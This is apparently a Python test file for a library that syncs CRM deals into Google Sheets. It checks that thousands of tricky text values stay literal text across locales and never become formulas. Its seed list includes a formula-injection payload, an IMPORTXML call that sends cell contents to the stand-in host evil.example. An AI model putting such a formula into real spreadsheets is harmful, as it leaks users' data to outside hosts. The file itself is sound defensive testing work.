"""Texts of a CRM stay texts, numbers stay numbers, in every locale."""

import random
from dataclasses import replace
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sheets_sync.targets.gsheets.cells import is_same, text
from sheets_sync.targets.gsheets.formula import loose, translated
from sheets_sync.workbook import TableSheet
from templates.tab import Group, Kind, Origin, Table, live, machine
from tests.gsheets.desk import Desk

ROWS = Table(
    "deals",
    Group.WORK,
    "deal_id",
    Origin.FED,
    (
        machine("deal_id"),
        machine("title"),
        machine("amount", Kind.MONEY),
        machine("closed_on", Kind.DATE),
        live("weighted", 'IF({amount}>0.95,"a,b;c",{amount}*1.5)', lambda _: None),
    ),
)
SEEDS = (
    '=IMPORTXML("http://evil.example/"&A1;"//a")', "=1+1", "+7 999 123-45-67", "-1+1", "@SUM(A1)",
    "'quoted", "'", "007", "1/2", "01.02.2026", "2026-02-01", "1e5", "1E400", "12:30", "TRUE",
    "истина", "50%", "1 234,56", "1,234.56", "$5", "5 ₽", "№ 7", "😀 эмодзи", "e\u0301", "\t=1+1",
    "  spaced  ", "{=1+1}", "=", "==", "\u200b=1", "＝1+1", "two\nlines", "#REF!", "N/A", "null",
    "<b>&amp;</b>", "\\", '"', ";", ",", "a" * 50_000, "-", "+", "0", "00", "1.", ".5", "٣",
)  # fmt: skip
CHANGED = ("a" * 50_001, "nul\x00inside", "lone \ud800 surrogate", "two\r\nlines")
"""What no cell can hold as it is."""


def hostile(count):
    """Return so many texts that a spreadsheet would like to make something of."""
    chance = random.Random(7)  # noqa: S311
    short = [seed for seed in SEEDS if len(seed) < 100]
    found = [*SEEDS, *CHANGED]
    while len(found) < count:
        found.append(chance.choice(short) + chance.choice(["", " ", "!", str(len(found))]))
    return found


def synced(world, texts, locale="ru_RU", table=ROWS):
    world.add("demo", locale)
    desk = Desk(world, tabs=(table,))
    rows = [
        {"deal_id": f"D{n}", "title": said, "amount": Decimal("0.1") * n, "closed_on": DAY}
        for n, said in enumerate(texts)
    ]
    desk.exchange(lambda _inputs, _hidden: [TableSheet(table, rows)])
    return desk


DAY = date(2026, 11, 23)


def test_ten_thousand_hostile_texts_are_stored_as_they_are(world):
    texts = hostile(10_000)
    desk = synced(world, texts, table=replace(ROWS, columns=ROWS.columns[:4]))
    grid, at = desk.grid(), desk.at("title")
    cells = [grid.cell(row, at) for row in range(4, 4 + len(texts))]
    assert [cell.value for cell in cells] == [text(said) or None for said in texts]
    assert [cell for cell in cells if cell.formula] == []
    assert [t for t in texts if text(t) != t and t not in CHANGED] == []


def sent_as_formulas(world):
    """Return the texts that travelled where formulas are read."""
    for request in world.log:
        body = request.body or {}
        if body.get("valueInputOption") == "USER_ENTERED":
            yield from (v for item in body["data"] for row in item["values"] for v in row if v)
        yield from _formulas(body.get("requests", []))


def _formulas(value):
    if isinstance(value, dict):
        yield from (v for name, v in value.items() if name == "formulaValue")
        for inner in value.values():
            yield from _formulas(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _formulas(inner)


def test_no_text_of_a_crm_travels_where_formulas_are_read(world):
    synced(world, SEEDS)
    sent = list(sent_as_formulas(world))
    assert len(sent) == len(SEEDS)
    assert set(sent).isdisjoint(SEEDS)
    assert all(said.startswith("=IF(C") for said in sent)


@pytest.mark.parametrize("locale", ["ru_RU", "en_US", "de_DE", "tr_TR"])
def test_values_survive_every_locale(world, locale):
    desk = synced(world, SEEDS, locale)
    assert desk.cell("D7", "title").value == "007"
    assert desk.cell("D9", "title").value == "01.02.2026"
    assert desk.cell("D3", "amount").value == pytest.approx(0.3)
    assert desk.cell("D3", "closed_on").value == 46349
    formula = desk.cell("D3", "weighted").formula
    mark = "," if locale == "en_US" else ";"
    assert formula == f'=IF(C8>(95/100){mark}"a,b;c"{mark}C8*(15/10))'


def test_formulas_have_no_decimal_point_and_no_list(world):
    """Every live formula and colour rule of the real workbook."""
    from templates.tabs import TABS

    cells = [c.live.cell for tab in TABS if isinstance(tab, Table) for c in tab.columns if c.live]
    rules = [rule[1] for tab in TABS if isinstance(tab, Table) for rule in tab.row_rules]
    assert len(cells) > 8
    for formula in cells + rules:
        plain = "".join(translated(formula).split('"')[::2])
        assert "." not in plain.replace("{", "").split("}")[-1], formula
        assert "{1" not in plain, formula
    world.add("demo")


@given(st.text(st.characters(exclude_categories=[]), max_size=60))
@settings(max_examples=300)
def test_a_stored_text_is_stored_once(said):
    assert text(text(said)) == text(said)
    text(said).encode()


@given(
    st.one_of(st.none(), st.booleans(), st.floats(allow_nan=False, allow_infinity=False), st.text())
)
def test_a_cell_is_the_same_as_itself(value):
    assert is_same(value, value)
    assert is_same(value, 1.5) == (value == 1.5)


PIECES = ["A1", "'План'!B2", '"a,b;c"', ";", ",", "(", ")", " ", "sum", "0.5", "2026"]


@given(st.lists(st.sampled_from(PIECES), max_size=12).map(lambda parts: " ".join(["=", *parts])))
def test_google_may_spell_a_formula_as_it_likes(formula):
    sent = translated(formula)
    assert loose(sent) == loose(sent.lower().replace("План".lower(), "План"))
    assert "," not in "".join(sent.split('"')[::2])


def test_moments_are_numbers():
    from sheets_sync.targets.gsheets.cells import content

    assert content(datetime(2026, 11, 23, 12)) == 46349.5  # noqa: DTZ001
